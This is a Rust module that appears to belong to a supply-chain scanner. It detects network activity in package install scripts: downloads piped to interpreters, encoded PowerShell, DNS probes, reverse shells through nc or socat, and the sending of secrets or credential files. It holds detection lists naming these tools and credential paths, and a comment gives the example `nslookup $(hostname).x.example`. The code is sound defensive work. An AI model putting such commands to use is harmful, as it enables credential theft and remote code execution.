//! Install-script commands that reach the network: downloaders (curl, wget, PowerShell's
//! Invoke-WebRequest…), DNS tools used as a covert channel (`nslookup $(hostname).x.example`),
//! raw sockets (nc). What they carry decides the threat: the machine's identity (a
//! dependency-confusion probe), secrets from the environment, credential files, or a payload
//! that is then run.

use base64::Engine;

use crate::alert::{AlertId, AlertSeverity};
use crate::iocs::{exfil_endpoint, host_like, host_of};

use super::shell::{Command, Word};
use super::{Place, Walker};

const DOWNLOADERS: [&str; 15] = [
    "curl",
    "wget",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
    "start-bitstransfer",
    "bitsadmin",
    "aria2c",
    "http",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
];
const DNS_TOOLS: [&str; 10] = [
    "nslookup",
    "dig",
    "host",
    "drill",
    "ping",
    "ping6",
    "traceroute",
    "tracert",
    "resolve-dnsname",
    "getent",
];

pub(super) fn is_network(name: &str) -> bool {
    DOWNLOADERS.contains(&name)
}

pub(super) fn is_dns(name: &str) -> bool {
    DNS_TOOLS.contains(&name)
}

/// Flags whose value is data sent to the server.
const DATA_FLAGS: [&str; 18] = [
    "-d",
    "--data",
    "--data-binary",
    "--data-raw",
    "--data-urlencode",
    "--data-ascii",
    "-F",
    "--form",
    "--form-string",
    "-T",
    "--upload-file",
    "--json",
    "--post-data",
    "--post-file",
    "--body-data",
    "--body-file",
    "-Body",
    "-InFile",
];
/// Flags whose value is a header or credentials: data too, for what it may carry.
const HEADER_FLAGS: [&str; 6] = ["-H", "--header", "-u", "--user", "-Headers", "-A"];
/// Flags naming where the download is written.
const OUTPUT_FLAGS: [&str; 5] = ["-o", "--output", "-O", "--output-document", "-OutFile"];
/// Other flags that take a value (so the value is not read as a host).
const VALUE_FLAGS: [&str; 19] = [
    "-X",
    "--request",
    "-e",
    "--referer",
    "-x",
    "--proxy",
    "-b",
    "--cookie",
    "-c",
    "--cookie-jar",
    "-m",
    "--max-time",
    "-w",
    "--write-out",
    "-P",
    "--directory-prefix",
    "-t",
    "--tries",
    "-Method",
];

/// Environment variables holding the machine's or user's identity.
const IDENTITY_VARS: [&str; 10] = [
    "HOSTNAME",
    "USER",
    "USERNAME",
    "LOGNAME",
    "HOME",
    "PWD",
    "COMPUTERNAME",
    "USERDOMAIN",
    "USERPROFILE",
    "HOST",
];
/// Commands printing the machine's or user's identity.
const IDENTITY_COMMANDS: [&str; 8] = [
    "hostname",
    "whoami",
    "id",
    "uname",
    "pwd",
    "ipconfig",
    "ifconfig",
    "cat /etc/hostname",
];
/// Commands printing the whole environment.
const ENV_DUMPS: [&str; 4] = ["env", "printenv", "set", "export"];
/// Parts of variable names that hold secrets.
const SECRET_NAMES: [&str; 8] = [
    "TOKEN",
    "SECRET",
    "PASSWORD",
    "PASSWD",
    "API_KEY",
    "APIKEY",
    "ACCESS_KEY",
    "PRIVATE_KEY",
];
/// Files holding credentials.
pub(crate) const CREDENTIAL_FILES: [&str; 13] = [
    "/etc/passwd",
    "/etc/shadow",
    ".npmrc",
    ".ssh/",
    "id_rsa",
    "id_ed25519",
    ".aws/credentials",
    ".git-credentials",
    ".netrc",
    ".docker/config.json",
    ".kube/config",
    ".env",
    ".pypirc",
];

pub(super) fn command(
    walker: &mut Walker<'_>,
    name: &str,
    words: &[Word],
    command: &Command,
    place: &Place,
    shown: &str,
    piped_to_interpreter: bool,
) {
    let offset = command.offset;
    let mut urls: Vec<String> = Vec::new();
    let mut data: Vec<&Word> = Vec::new();
    let mut output: Option<String> = None;
    let mut positional: Vec<&Word> = Vec::new();
    let mut i = 1;
    while i < words.len() {
        let word = &words[i];
        let raw = word.raw.as_str();
        urls.extend(urls_in(raw));
        let (flag, attached) = match raw.split_once('=') {
            Some((f, v)) if raw.starts_with("--") => (f, Some(v)),
            _ => (raw, None),
        };
        let next = words.get(i + 1);
        let value_word = if attached.is_some() { Some(word) } else { next };
        let takes_value = |list: &[&str]| list.iter().any(|f| f.eq_ignore_ascii_case(flag));
        // Combined short flags like `-qO-` or `-sSLo file`.
        let combined_output = flag.starts_with('-')
            && !flag.starts_with("--")
            && flag.len() > 2
            && flag[1..].contains(['o', 'O']);
        let ping_pattern = name.starts_with("ping") && flag == "-p";
        if takes_value(&DATA_FLAGS) || takes_value(&HEADER_FLAGS) || ping_pattern {
            if let Some(v) = value_word {
                urls.extend(urls_in(&v.raw));
                data.push(v);
            }
            i += if attached.is_some() { 1 } else { 2 };
        } else if takes_value(&OUTPUT_FLAGS) || combined_output {
            let rest = if takes_value(&OUTPUT_FLAGS) {
                ""
            } else {
                flag.rsplit(['o', 'O']).next().unwrap_or("")
            };
            let target = if !rest.is_empty() {
                i += 1;
                Some(rest.to_string())
            } else if flag == "-O" && name == "curl" {
                // curl -O: the file is named after the URL.
                i += 1;
                None
            } else {
                i += if attached.is_some() { 1 } else { 2 };
                attached
                    .map(str::to_string)
                    .or_else(|| next.map(|w| w.literal.clone()))
            };
            output = output.or(target);
        } else if takes_value(&VALUE_FLAGS) {
            i += if attached.is_some() { 1 } else { 2 };
        } else {
            if !raw.starts_with('-') {
                positional.push(word);
            }
            i += 1;
        }
    }
    // Hosts named without a scheme: `curl x.example`, `nslookup $(hostname).x.example`.
    for word in &positional {
        if !word.raw.contains("://")
            && let Some(host) = host_like(word.literal.trim_start_matches('@'))
        {
            urls.push(host);
        }
    }
    // A dynamic URL (`https://$(whoami).x.example`) also gives its literal host.
    let hosts: Vec<String> = urls.iter().filter_map(|u| host_of(u)).collect();
    for host in hosts {
        if !urls.contains(&host) {
            urls.push(host);
        }
    }
    urls.sort();
    urls.dedup();
    for redirect in &command.redirects {
        if redirect.op.contains('<') {
            data.push(&redirect.target);
        } else if redirect.op.contains('>') && output.is_none() {
            output = Some(redirect.target.literal.clone());
        }
    }
    record_download(walker, name, &urls, output.as_deref());

    let carried: Vec<&Word> = data
        .iter()
        .copied()
        .chain(positional.iter().copied())
        .collect();
    let identity = carried.iter().any(|w| carries_identity(w));
    let secrets = carried.iter().any(|w| carries_secrets(w));
    let credential = data
        .iter()
        .find_map(|w| credential_file(w))
        .or_else(|| carried.iter().find_map(|w| credential_in_substitution(w)));
    let sends = !data.is_empty() || identity || secrets;
    let targets = if urls.is_empty() {
        "a host given at run time".to_string()
    } else {
        urls.join(", ")
    };

    if piped_to_interpreter {
        let detail = format!("pipes what `{name}` fetches from {targets} into an interpreter");
        walker.threat(
            AlertId::DownloadExecute,
            AlertSeverity::Critical,
            place,
            offset,
            shown,
            detail,
            urls.clone(),
        );
    }
    if let Some(file) = credential {
        let detail = format!("sends `{file}` to {targets} during install");
        walker.threat(
            AlertId::CredentialFileRead,
            AlertSeverity::Critical,
            place,
            offset,
            shown,
            detail,
            urls.clone(),
        );
    }
    if secrets {
        let detail = format!("sends environment secrets to {targets} during install");
        walker.threat(
            AlertId::EnvExfiltration,
            AlertSeverity::Critical,
            place,
            offset,
            shown,
            detail,
            urls.clone(),
        );
    }
    if identity {
        // The recon probe of dependency confusion, done by the script itself: the machine's
        // name or user leaves the machine during install. No benign install script does this.
        let channel = if is_dns(name) {
            "a DNS lookup"
        } else {
            "a network request"
        };
        let detail =
            format!("sends the host name or user name in {channel} to {targets} during install");
        walker.threat(
            AlertId::DependencyConfusion,
            AlertSeverity::Critical,
            place,
            offset,
            shown,
            detail,
            urls.clone(),
        );
    }
    if let Some((host, what)) = urls
        .iter()
        .find_map(|u| exfil_endpoint(u).map(|w| (u.clone(), w)))
    {
        let severity = if sends {
            AlertSeverity::Critical
        } else {
            AlertSeverity::High
        };
        let detail = format!("contacts {what} `{host}` during install");
        walker.threat(
            AlertId::ExfilEndpoint,
            severity,
            place,
            offset,
            shown,
            detail,
            urls.clone(),
        );
    }
    if matches!(name, "nc" | "ncat" | "netcat" | "socat")
        && words[1..].iter().any(|w| spawns_shell(name, &w.raw))
    {
        let detail = format!("`{name}` hands a shell to a remote socket");
        walker.threat(
            AlertId::ReverseShell,
            AlertSeverity::Critical,
            place,
            offset,
            shown,
            detail,
            urls.clone(),
        );
    }
    let verb = if is_dns(name) {
        "looks up"
    } else if sends {
        "sends data to"
    } else {
        "downloads from or connects to"
    };
    let detail = format!("`{name}` {verb} {targets} during install");
    walker.threat(
        AlertId::InstallTimeNetwork,
        AlertSeverity::High,
        place,
        offset,
        shown,
        detail,
        urls,
    );
}

/// `powershell -enc <base64>` and `powershell -c "iwr … ; iex …"`.
pub(super) fn powershell(
    walker: &mut Walker<'_>,
    words: &[Word],
    place: &Place,
    offset: usize,
    shown: &str,
) {
    let mut i = 1;
    while i < words.len() {
        let flag = words[i].raw.to_ascii_lowercase();
        let is_prefix_of =
            |full: &str| flag.len() >= 2 && flag.starts_with('-') && full.starts_with(&flag);
        if is_prefix_of("-encodedcommand") || flag == "-ec" {
            let text = words
                .get(i + 1)
                .and_then(|w| decode_utf16_base64(&w.literal))
                .unwrap_or_default();
            let urls = urls_in(&text);
            let detail = "runs a base64-encoded PowerShell command during install".to_string();
            walker.threat(
                AlertId::EncodedEval,
                AlertSeverity::Critical,
                place,
                offset,
                shown,
                detail,
                urls,
            );
            powershell_text(walker, &text, place, offset, shown);
            return;
        }
        if is_prefix_of("-command") || !flag.starts_with('-') {
            let start = if flag.starts_with('-') { i + 1 } else { i };
            let text = words[start.min(words.len())..]
                .iter()
                .map(|w| w.raw.as_str())
                .collect::<Vec<_>>()
                .join(" ");
            powershell_text(walker, &text, place, offset, shown);
            return;
        }
        i += 1;
    }
}

fn powershell_text(walker: &mut Walker<'_>, text: &str, place: &Place, offset: usize, shown: &str) {
    let lower = text.to_ascii_lowercase();
    const FETCH: [&str; 9] = [
        "invoke-webrequest",
        "iwr ",
        "downloadstring",
        "downloadfile",
        "downloaddata",
        "net.webclient",
        "start-bitstransfer",
        "invoke-restmethod",
        "irm ",
    ];
    const RUN: [&str; 6] = [
        "iex",
        "invoke-expression",
        "start-process",
        "& ",
        ".exe",
        "cmd /c",
    ];
    let fetches = FETCH.iter().any(|f| lower.contains(f));
    if !fetches {
        return;
    }
    let urls = urls_in(text);
    if RUN.iter().any(|r| lower.contains(r)) {
        let detail = "PowerShell downloads a payload and runs it during install".to_string();
        walker.threat(
            AlertId::DownloadExecute,
            AlertSeverity::Critical,
            place,
            offset,
            shown,
            detail,
            urls,
        );
    } else {
        let detail = "PowerShell downloads during install".to_string();
        walker.threat(
            AlertId::InstallTimeNetwork,
            AlertSeverity::High,
            place,
            offset,
            shown,
            detail,
            urls,
        );
    }
}

fn decode_utf16_base64(text: &str) -> Option<String> {
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(text.trim().as_bytes())
        .ok()?;
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    Some(String::from_utf16_lossy(&units))
}

fn record_download(walker: &mut Walker<'_>, name: &str, urls: &[String], output: Option<&str>) {
    let target = match output {
        Some("-" | "/dev/null") => return,
        Some(path) => path.to_string(),
        // wget and `curl -O` name the file after the URL.
        None if matches!(name, "wget" | "curl") => match urls.iter().find(|u| u.contains("://")) {
            Some(url) => url
                .split(['?', '#'])
                .next()
                .unwrap_or("")
                .rsplit('/')
                .next()
                .unwrap_or("")
                .to_string(),
            None => return,
        },
        None => return,
    };
    let base = target.rsplit(['/', '\\']).next().unwrap_or("").to_string();
    if !base.is_empty() {
        walker.downloaded.insert(base);
    }
}

fn carries_identity(word: &Word) -> bool {
    word.variables.iter().any(|v| {
        IDENTITY_VARS
            .iter()
            .any(|i| v.trim_start_matches("env:").eq_ignore_ascii_case(i))
    }) || word.substitutions.iter().any(|s| {
        let s = s.trim();
        IDENTITY_COMMANDS
            .iter()
            .any(|c| s == *c || s.starts_with(&format!("{c} ")) || s.starts_with(&format!("{c}|")))
    })
}

fn carries_secrets(word: &Word) -> bool {
    word.variables.iter().any(|v| {
        let upper = v.to_ascii_uppercase();
        SECRET_NAMES.iter().any(|s| upper.contains(s))
    }) || word.substitutions.iter().any(|s| {
        let first = s.split_whitespace().next().unwrap_or("");
        ENV_DUMPS.contains(&first) && s.split_whitespace().count() <= 2
    })
}

/// `@/etc/passwd` (curl's "send this file"), `--post-file ~/.npmrc`, `-T ~/.ssh/id_rsa`.
fn credential_file(word: &Word) -> Option<String> {
    let path = word.literal.trim_start_matches('@');
    let full = if word.raw.contains("~/") || word.variables.iter().any(|v| v == "HOME") {
        word.raw.as_str()
    } else {
        path
    };
    CREDENTIAL_FILES
        .iter()
        .any(|c| full.contains(c))
        .then(|| full.to_string())
}

/// `$(cat ~/.npmrc)` inside a word sent over the network.
fn credential_in_substitution(word: &Word) -> Option<String> {
    word.substitutions.iter().find_map(|s| {
        let reads = ["cat ", "type ", "get-content ", "base64 "]
            .iter()
            .any(|c| s.trim_start().to_ascii_lowercase().starts_with(c));
        let file = CREDENTIAL_FILES.iter().find(|c| s.contains(*c))?;
        reads.then(|| (*file).to_string())
    })
}

fn spawns_shell(name: &str, arg: &str) -> bool {
    let lower = arg.to_ascii_lowercase();
    if name == "socat" {
        return lower.contains("exec:") || lower.contains("system:");
    }
    arg == "-e"
        || arg == "-c"
        || arg == "--exec"
        || arg == "--sh-exec"
        || (arg.starts_with('-') && !arg.starts_with("--") && arg.contains('e') && arg.len() <= 5)
}

/// `http(s)://…` and `ftp://…` substrings of a text.
pub(crate) fn urls_in(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let lower = text.to_ascii_lowercase();
    let mut from = 0;
    while let Some(i) = ["http://", "https://", "ftp://"]
        .iter()
        .filter_map(|s| lower[from..].find(s))
        .min()
    {
        let start = from + i;
        let end = text[start..]
            .find(|c: char| {
                c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '|' | ';' | '\\' | '^')
            })
            .map_or(text.len(), |e| start + e);
        let url = text[start..end].trim_end_matches([')', ',', '.']);
        if url.len() > "https://".len() && !out.iter().any(|u| u == url) {
            out.push(url.to_string());
        }
        from = end.max(start + 1);
    }
    out
}
